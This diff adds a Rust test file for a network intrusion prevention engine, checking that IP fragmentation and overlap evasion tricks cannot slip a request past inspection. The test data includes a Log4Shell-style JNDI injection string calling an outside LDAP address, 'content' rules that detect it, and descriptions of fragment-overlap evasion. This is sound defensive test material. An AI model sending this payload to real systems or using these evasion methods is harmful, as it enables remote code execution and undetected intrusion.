@@ -1,0 +1,124 @@
+//! The evasion corpus on a whole engine: what a hostile sender does to hide bytes from an
+//! inspector that the receiver will still assemble (IP fragments in and out of order,
+//! overlapping with other data), and the proof that in prevention the receiver never
+//! gets the complete malicious bytes.
+
+use super::keyword_tests::{tcp, Harness};
+use super::*;
+use testkit::fragments::{piece, split_every};
+
+const EXPLOIT: &[u8] =
+    b"GET /?x=${jndi:ldap://203.0.113.9:1389/a} HTTP/1.1\r\nHost: victim\r\nUser-Agent: t\r\n\r\n";
+const ALERT: &str = "alert tcp any any -> any 80 (content:\"${jndi:\"; sid:1;)";
+const DROP: &str = "drop tcp any any -> any 80 (content:\"${jndi:\"; sid:1;)";
+
+/// The exploit's segment as an IPv6 packet.
+fn segment_v6(payload: &[u8]) -> Vec<u8> {
+    let mut src = [0u8; 16];
+    let mut dst = [0u8; 16];
+    src[15] = 1;
+    dst[15] = 2;
+    let mut out = Vec::new();
+    etherparse::PacketBuilder::ethernet2([2, 0, 0, 0, 0, 1], [2, 0, 0, 0, 0, 2])
+        .ipv6(src, dst, 64)
+        .tcp(40000, 80, 101, 65535)
+        .ack(1)
+        .psh()
+        .write(&mut out, payload)
+        .unwrap();
+    out
+}
+
+/// The exploit cut into 8-byte fragments, in order, reversed, and interleaved.
+fn fragment_orders(whole: &[u8]) -> Vec<Vec<Vec<u8>>> {
+    let frags = split_every(whole, 8, 0x4242);
+    let n = frags.len();
+    let reversed = frags.iter().rev().cloned().collect();
+    let interleaved = (0..n).map(|i| frags[(i * 7) % n].clone()).collect();
+    vec![frags, reversed, interleaved]
+}
+
+#[test]
+fn a_request_split_across_fragments_alerts_once_and_its_last_fragment_is_dropped() {
+    for whole in [tcp(true, "AP", 101, EXPLOIT), segment_v6(EXPLOIT)] {
+        for frags in fragment_orders(&whole) {
+            assert!(frags.len() > 10);
+            let mut h = Harness::new(ALERT, Mode::Detection);
+            let alerts: Vec<u64> = h.feed(&frags).iter().map(|o| o.alerts).collect();
+            let (last, before) = alerts.split_last().unwrap();
+            assert_eq!((*last, before.iter().sum::<u64>()), (1, 0));
+            assert_eq!(h.engine.counters.defrag.reassembled, 1);
+
+            // Prevention: every fragment but the completing one is forwarded; that one is
+            // dropped, so the receiver never holds the whole datagram; the flow's next
+            // packet follows the flow's verdict.
+            let mut h = Harness::new(DROP, Mode::Prevention);
+            let verdicts: Vec<Verdict> = h.feed(&frags).iter().map(|o| o.verdict).collect();
+            let (last, before) = verdicts.split_last().unwrap();
+            assert_eq!(*last, Verdict::Drop);
+            assert!(before.iter().all(|v| *v == Verdict::Pass));
+            let next = h.feed_at(&tcp(true, "A", 101 + EXPLOIT.len() as u32, b""), 9_000_000);
+            if whole[12] == 0x08 {
+                assert_eq!(next.verdict, Verdict::Drop);
+            }
+        }
+    }
+}
+
+#[test]
+fn overlapping_fragments_are_read_as_the_receiver_reads_them_and_reported() {
+    // The bytes at 32..40 of the TCP segment (the request's "${jndi:l" region starts at
+    // its byte 8, 28 into the segment) are sent twice: first harmless, then, in a
+    // fragment beginning before them, the exploit's. Under the BSD policy the receiver
+    // keeps the second fragment's data where it begins earlier: the exploit is whole.
+    let whole = tcp(true, "AP", 101, EXPLOIT);
+    let seg = testkit::fragments::payload(&whole).to_vec();
+    let mut harmless = seg.clone();
+    harmless[24..40].copy_from_slice(b"xxxxxxxxxxxxxxxx");
+    let frags = vec![
+        piece(&whole, 32, &harmless[32..40], true, 9),
+        piece(&whole, 24, &seg[24..40], true, 9),
+        piece(&whole, 0, &seg[..24], true, 9),
+        piece(&whole, 40, &seg[40..], false, 9),
+    ];
+    for (policy, alerts) in [
+        (crate::defrag::OverlapPolicy::Bsd, 1),
+        (crate::defrag::OverlapPolicy::First, 0),
+    ] {
+        let config = EngineConfig {
+            defrag: crate::defrag::DefragConfig {
+                policy,
+                ..Default::default()
+            },
+            ..EngineConfig::standalone(Mode::Detection)
+        };
+        let mut h = Harness::with_config(ALERT, config);
+        let got: u64 = h.feed(&frags).iter().map(|o| o.alerts).sum();
+        assert_eq!(got, alerts, "{policy:?}");
+        assert_eq!(h.anomalies(), ["decoder.ipv4.frag_overlap"]);
+    }
+}
+
+#[test]
+fn a_refused_datagram_is_dropped_to_its_last_fragment_in_prevention() {
+    let whole = tcp(true, "AP", 101, EXPLOIT);
+    let frags = split_every(&whole, 8, 5);
+    let config = EngineConfig {
+        defrag: crate::defrag::DefragConfig {
+            max_fragments: 4,
+            ..Default::default()
+        },
+        ..EngineConfig::standalone(Mode::Prevention)
+    };
+    let mut h = Harness::with_config(ALERT, config);
+    let verdicts: Vec<Verdict> = h.feed(&frags).iter().map(|o| o.verdict).collect();
+    assert!(verdicts[..4].iter().all(|v| *v == Verdict::Pass));
+    assert!(verdicts[4..].iter().all(|v| *v == Verdict::Drop));
+    assert_eq!(
+        h.engine.counters.defrag_drops,
+        frags.len() as u64 - 4,
+        "{:?}",
+        h.engine.counters.defrag
+    );
+    assert_eq!(h.anomalies(), ["decoder.ipv4.frag_too_many"]);
+}
